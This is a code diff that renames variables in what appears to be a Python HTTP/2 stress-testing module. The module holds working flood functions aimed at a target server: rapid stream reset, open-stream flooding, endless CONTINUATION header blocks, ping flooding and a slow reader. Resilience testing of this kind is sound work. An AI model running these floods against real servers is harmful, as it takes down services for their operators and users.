@@ -150,12 +150,12 @@ def connect(target: str, secure: ssl.SSLContext | None = None) -> Peer:
     return Peer(connection)
 
 
-Says = Callable[[Peer], bytes]
+SentBytes = Callable[[Peer], bytes]
 
 
 def _flood(
     target: str,
-    says: Says,
+    payload_of: SentBytes,
     *,
     seconds: float,
     connections: int,
@@ -179,7 +179,7 @@ def _flood(
                 events = selectors.EVENT_WRITE | (selectors.EVENT_READ if reads else 0)
                 ready.register(peer.socket, events, peer)
             for key, mask in ready.select(0.05):
-                if not _turn(key.data, mask, says, tally):
+                if not _turn(key.data, mask, payload_of, tally):
                     tally.closed += 1
                     ready.unregister(key.fileobj)
                     key.data.socket.close()
@@ -188,19 +188,19 @@ def _flood(
     return tally
 
 
-def _turn(peer: Peer, mask: int, says: Says, tally: Tally) -> bool:
+def _turn(peer: Peer, mask: int, payload_of: SentBytes, tally: Tally) -> bool:
     """Read and send what goes now; False: the server has ended the connection."""
     try:
         if mask & selectors.EVENT_READ:
-            heard = peer.socket.recv(1 << 18)
-            tally.received_bytes += len(heard)
-            if not heard:
+            received = peer.socket.recv(1 << 18)
+            tally.received_bytes += len(received)
+            if not received:
                 return False
         if mask & selectors.EVENT_WRITE:
             if not peer.out:
                 if peer.next_stream > STREAM_ID_MAX - 4 * _BATCH:
                     return False
-                peer.out = memoryview(says(peer))
+                peer.out = memoryview(payload_of(peer))
                 tally.batches += 1
             sent = peer.socket.send(peer.out)
             peer.out = peer.out[sent:]
@@ -224,10 +224,10 @@ def rapid_reset(
     """Calls that are begun and taken back at once, so that they never count as open."""
     fields = request_fields(path, token)
 
-    def says(peer: Peer) -> bytes:
+    def payload_of(peer: Peer) -> bytes:
         return peer.open_streams(_BATCH, fields, reset=True)
 
-    return _flood(target, says, seconds=seconds, connections=connections, secure=secure)
+    return _flood(target, payload_of, seconds=seconds, connections=connections, secure=secure)
 
 
 def open_flood(
@@ -236,23 +236,23 @@ def open_flood(
     """Calls that are begun and left open, whatever number of them the server allows."""
     fields = request_fields(path, token)
 
-    def says(peer: Peer) -> bytes:
+    def payload_of(peer: Peer) -> bytes:
         return peer.open_streams(_BATCH, fields, reset=False)
 
-    return _flood(target, says, seconds=seconds, connections=connections)
+    return _flood(target, payload_of, seconds=seconds, connections=connections)
 
 
 def continuation_flood(target: str, *, seconds: float = 3.0, connections: int = 4) -> Tally:
     """One header block a connection that never ends."""
     more = headers([("x-filler", "y" * 1000)] * 15)
 
-    def says(peer: Peer) -> bytes:
+    def payload_of(peer: Peer) -> bytes:
         if peer.named:
             return frame(CONTINUATION, 0, 1, more) * 8
         peer.named = True
         return frame(HEADERS, 0, 1, headers(request_fields("/x/y")))
 
-    return _flood(target, says, seconds=seconds, connections=connections)
+    return _flood(target, payload_of, seconds=seconds, connections=connections)
 
 
 def ping_flood(target: str, *, seconds: float = 3.0, connections: int = 4) -> Tally:
@@ -274,7 +274,7 @@ def slow_reader(
     fields = request_fields(path, token)
     message = b"\x00\x00\x00\x00\x00"
 
-    def says(peer: Peer) -> bytes:
+    def payload_of(peer: Peer) -> bytes:
         opened = bytearray()
         if not peer.named:
             opened += frame(SETTINGS, 0, 0, struct.pack(">HI", 4, STREAM_ID_MAX))
@@ -285,7 +285,7 @@ def slow_reader(
             opened += frame(DATA, END_STREAM, stream, message)
         return bytes(opened)
 
-    return _flood(target, says, seconds=seconds, connections=connections, reads=False)
+    return _flood(target, payload_of, seconds=seconds, connections=connections, reads=False)
 
 
 @contextlib.contextmanager
@@ -316,8 +316,8 @@ def closed(held: list[socket.socket]) -> int:
     for one in held:
         one.setblocking(False)
         try:
-            while heard := one.recv(1 << 16):
-                del heard
+            while received := one.recv(1 << 16):
+                del received
             found += 1
         except BlockingIOError:
             continue
